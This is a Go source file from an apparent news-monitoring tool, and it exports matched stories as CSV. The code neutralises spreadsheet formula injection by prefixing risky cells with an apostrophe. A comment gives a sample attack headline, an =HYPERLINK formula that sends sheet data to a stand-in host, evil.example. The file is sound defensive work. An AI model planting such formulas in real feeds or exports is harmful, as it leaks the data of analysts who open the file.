package export

import (
	"encoding/csv"
	"fmt"
	"io"
	"strings"
	"time"

	"github.com/civicwatch/civicwatch/internal/snippet"
	"github.com/civicwatch/civicwatch/internal/store"
)

// CSVHeader is the CSV export's first row.
var CSVHeader = []string{"first_seen", "published", "topics", "title", "feeds", "url", "terms"}

// CSV writes the stories as RFC 4180 CSV with a header row: times in RFC
// 3339 UTC, topic and feed ids separated by spaces, terms (which may hold
// spaces) by "; ".
func CSV(w io.Writer, stories []store.MatchedStory) error {
	cw := csv.NewWriter(w)
	cw.UseCRLF = true // RFC 4180's line ending, which spreadsheets expect
	if err := cw.Write(CSVHeader); err != nil {
		return fmt.Errorf("matches as CSV: %w", err)
	}
	for _, s := range stories {
		row := []string{
			csvTime(s.FirstSeenAt),
			csvTime(s.PublishedAt),
			strings.Join(s.Topics(), " "),
			snippet.Clean(s.Title),
			strings.Join(s.Feeds, " "),
			httpURL(s.URL), // as Atom and the pages do: a spreadsheet makes links of what it is given
			strings.Join(terms(s.Matches), "; "),
		}
		for i := range row {
			row[i] = inert(row[i])
		}
		if err := cw.Write(row); err != nil {
			return fmt.Errorf("matches as CSV: %w", err)
		}
	}
	cw.Flush()
	if err := cw.Error(); err != nil {
		return fmt.Errorf("matches as CSV: %w", err)
	}
	return nil
}

func csvTime(t time.Time) string {
	if t.IsZero() {
		return ""
	}
	return t.UTC().Format(time.RFC3339)
}

// inert keeps a cell from being run as a formula. Spreadsheets evaluate a
// cell that starts with = + - or @ (and some strip a leading tab or CR
// first), and titles come from feeds anyone can publish: a headline like
// =HYPERLINK("http://evil.example/?"&A1) would leak the sheet or run a
// command on the analyst's machine. A leading apostrophe makes the cell
// text in every common spreadsheet, at the price of showing the
// apostrophe in a plain-text reader.
func inert(cell string) string {
	if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
		return "'" + cell
	}
	return cell
}
